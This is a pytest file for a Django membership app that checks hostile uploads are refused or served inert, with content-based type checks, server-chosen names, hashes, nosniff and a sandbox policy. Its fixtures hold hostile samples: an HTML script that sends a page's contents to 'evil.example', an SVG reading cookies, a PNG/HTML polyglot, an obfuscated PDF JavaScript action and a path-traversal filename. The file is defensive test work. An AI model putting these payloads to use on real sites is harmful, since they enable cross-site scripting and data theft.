"""Uploads cannot run script: hostile files are refused or stored and served inert (issue 8.3)."""

import hashlib
from datetime import timedelta

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from gongyue.accounts.models import Role, RoleGrant
from gongyue.audit.models import AuditEntry
from gongyue.core.uploads import SERVE_CSP, check_upload, stored_files
from gongyue.organisations import actions
from gongyue.organisations.models import Signature

from .conftest import PDF_BYTES, PNG_BYTES, approve_for

API = "/api/v1/members"

HTML_WITH_PDF_HEADER = (
    b"%PDF-1.4\n<html><body><script>fetch('/secretariat/').then(r=>r.text())"
    b".then(t=>new Image().src='//evil.example/?'+t)</script></body></html>\n%%EOF\n"
)
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.cookie)</script></svg>"
)
# A valid image with a web page after its end: image viewers show the picture, a browser that
# sniffs (or a server that trusts the name) runs the page.
PNG_HTML_POLYGLOT = PNG_BYTES + b"<html><script>alert(1)</script></html>"
PDF_WITH_JAVASCRIPT = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
HOSTILE = {
    "html_with_pdf_header": ("seal.html", HTML_WITH_PDF_HEADER),
    "svg_with_script": ("seal.svg", SVG_WITH_SCRIPT),
    "png_html_polyglot": ("seal.png", PNG_HTML_POLYGLOT),
    "pdf_with_javascript": ("seal.pdf", PDF_WITH_JAVASCRIPT),
}


@pytest.fixture
def signature(unit_a, rep_a, convention, version):
    approve_for(unit_a, rep_a)
    return actions.do_sign_convention(unit_a, actor=rep_a, version=version, sha256=version.sha256)


def upload(name, data, content_type="application/pdf"):
    return SimpleUploadedFile(name, data, content_type=content_type)


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_sealed_page_is_refused_on_the_page_and_nothing_is_stored(
    client_for, rep_a, signature, case
):
    name, data = HOSTILE[case]
    response = client_for(rep_a).post(
        f"/members/signatures/{signature.pk}/sealed/", {"scan": upload(name, data)}
    )
    assert response.status_code == 400
    signature.refresh_from_db()
    assert not signature.sealed_scan and not signature.sealed_scan_sha256
    assert not AuditEntry.objects.filter(action="organisations.sealed_page_received").exists()


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_sealed_page_is_refused_by_the_api_in_the_error_format(
    client_for, rep_a, signature, case
):
    name, data = HOSTILE[case]
    response = client_for(rep_a).post(
        f"{API}/signatures/{signature.pk}/sealed", {"scan": upload(name, data)}
    )
    assert response.status_code == 400
    body = response.json()
    assert body["code"] == "invalid" and body["fields"]["scan"]
    signature.refresh_from_db()
    assert not signature.sealed_scan


def test_the_type_comes_from_the_content_not_the_name_or_the_browser():
    assert check_upload(upload("scan.pdf", PNG_BYTES)) == "png"
    assert check_upload(upload("scan.exe", PDF_BYTES, "application/x-msdownload")) == "pdf"
    with pytest.raises(Exception, match="PDF"):
        check_upload(upload("scan.pdf", b"GIF89a\x01\x00\x01\x00 not on the list"))


def test_an_image_with_a_wrong_extension_is_stored_under_the_servers_name_with_its_hash(
    client_for, rep_a, signature
):
    response = client_for(rep_a).post(
        f"/members/signatures/{signature.pk}/sealed/",
        {"scan": upload("../../seal.html", PNG_BYTES, "text/html")},
    )
    assert response.status_code == 302
    signature.refresh_from_db()
    stored = signature.sealed_scan.name
    assert stored.startswith(f"private/sealed/{signature.unit_id}/") and stored.endswith(".png")
    assert "seal" not in stored.rsplit("/", 1)[-1] and ".." not in stored
    assert signature.sealed_scan_sha256 == hashlib.sha256(PNG_BYTES).hexdigest()
    assert default_storage.open(stored).read() == PNG_BYTES

    served = client_for(rep_a).get(f"/members/signatures/{signature.pk}/sealed/")
    assert served.status_code == 200
    assert served["Content-Type"] == "image/png"
    assert served["Content-Disposition"].startswith("inline")
    assert f"sealed-page-{signature.pk}.png" in served["Content-Disposition"]
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Security-Policy"] == SERVE_CSP
    assert "sandbox" in served["Content-Security-Policy"]
    assert b"".join(served.streaming_content) == PNG_BYTES


def test_a_pdf_is_served_inline_under_the_sandboxing_policy(client_for, rep_a, signature):
    client_for(rep_a).post(
        f"{API}/signatures/{signature.pk}/sealed", {"scan": upload("scan.pdf", PDF_BYTES)}
    )
    signature.refresh_from_db()
    assert signature.sealed_scan.name.endswith(".pdf")
    assert signature.sealed_scan_sha256 == hashlib.sha256(PDF_BYTES).hexdigest()
    served = client_for(rep_a).get(f"/members/signatures/{signature.pk}/sealed/")
    assert served["Content-Type"] == "application/pdf"
    assert served["Content-Disposition"].startswith("inline")
    assert served["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in served["Content-Security-Policy"]


def test_a_file_stored_before_the_checks_is_served_as_a_download_whatever_its_name(
    client_for, rep_a, secretariat, signature
):
    """Rows from before this change keep the name the uploader chose; serving reads the bytes."""
    name = default_storage.save(
        f"private/sealed/{signature.unit_id}/seal.html", ContentFile(HTML_WITH_PDF_HEADER[9:])
    )
    Signature.objects.filter(pk=signature.pk).update(sealed_scan=name)
    served = client_for(secretariat).get(f"/members/signatures/{signature.pk}/sealed/")
    assert served.status_code == 200
    assert served["Content-Type"] == "application/octet-stream"
    assert served["Content-Disposition"].startswith("attachment")
    assert f"sealed-page-{signature.pk}.bin" in served["Content-Disposition"]
    assert served["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in served["Content-Security-Policy"]


def test_an_authorisation_letter_is_checked_named_and_hashed_the_same_way(
    client_for, rep_a, unit_a
):
    today = timezone.localdate()
    fields = {
        "name": "李四",
        "email": "lisi@example.cn",
        "valid_from": today.isoformat(),
        "valid_until": (today + timedelta(days=100)).isoformat(),
    }
    refused = client_for(rep_a).post(
        f"{API}/units/{unit_a.pk}/delegates",
        {**fields, "letter": upload("letter.svg", SVG_WITH_SCRIPT, "image/svg+xml")},
    )
    assert refused.status_code == 400 and refused.json()["fields"]["letter"]
    assert not RoleGrant.objects.filter(role=Role.DELEGATE).exists()

    done = client_for(rep_a).post(
        f"{API}/units/{unit_a.pk}/delegates",
        {**fields, "letter": upload("letter.html", PDF_BYTES, "text/html")},
    )
    assert done.status_code == 201
    grant = RoleGrant.objects.get(role=Role.DELEGATE)
    assert grant.document.name.endswith(".pdf") and "letter" not in grant.document.name
    assert grant.document_sha256 == hashlib.sha256(PDF_BYTES).hexdigest()
    served = client_for(rep_a).get(f"/members/delegates/{grant.pk}/letter/")
    assert served["Content-Type"] == "application/pdf"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in served["Content-Security-Policy"]


def test_every_kept_file_can_be_checked_against_its_stored_hash(rep_a, signature):
    actions.do_attach_sealed_scan(signature, actor=rep_a, upload=upload("s.png", PNG_BYTES))
    found = [(row.pk, field.name, digest) for row, field, digest in stored_files()]
    assert found == [(signature.pk, "sealed_scan", hashlib.sha256(PNG_BYTES).hexdigest())]
